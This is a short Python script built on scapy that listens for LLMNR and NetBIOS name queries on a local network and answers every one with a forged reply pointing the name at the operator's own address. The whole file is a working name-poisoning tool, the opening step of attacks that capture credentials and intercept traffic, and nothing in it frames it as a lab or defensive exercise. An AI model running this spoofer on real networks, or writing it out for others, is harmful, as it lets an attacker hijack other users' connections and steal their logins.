"""Answers for every name that neighbours ask for over LLMNR and NetBIOS: `poser.py ADDRESS`, with scapy."""

import sys

from scapy.layers.dns import DNS, DNSRR
from scapy.layers.inet import IP, UDP
from scapy.layers.llmnr import LLMNRQuery, LLMNRResponse
from scapy.layers.netbios import NBNS_ADD_ENTRY, NBNSHeader, NBNSQueryRequest, NBNSQueryResponse
from scapy.packet import Packet
from scapy.sendrecv import send, sniff

OWN = sys.argv[1]


def answer(asked: Packet) -> None:
    """Sends one false answer."""
    if asked[IP].src == OWN:
        return
    back = IP(src=OWN, dst=asked[IP].src) / UDP(sport=asked[UDP].dport, dport=asked[UDP].sport)
    if LLMNRQuery in asked:
        name = asked[LLMNRQuery].qd
        told = LLMNRResponse(id=asked[LLMNRQuery].id, qd=name, an=DNSRR(rrname=name.qname, ttl=30, rdata=OWN))
        send(back / told, verbose=False)
    elif NBNSQueryRequest in asked and DNS not in asked:
        head = NBNSHeader(NAME_TRN_ID=asked[NBNSHeader].NAME_TRN_ID, RESPONSE=1, OPCODE=0, ANCOUNT=1)
        name = asked[NBNSQueryRequest].QUESTION_NAME
        told = NBNSQueryResponse(RR_NAME=name, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS=OWN)])
        send(back / head / told, verbose=False)


sniff(filter="udp and (port 5355 or port 137)", prn=answer, store=False)
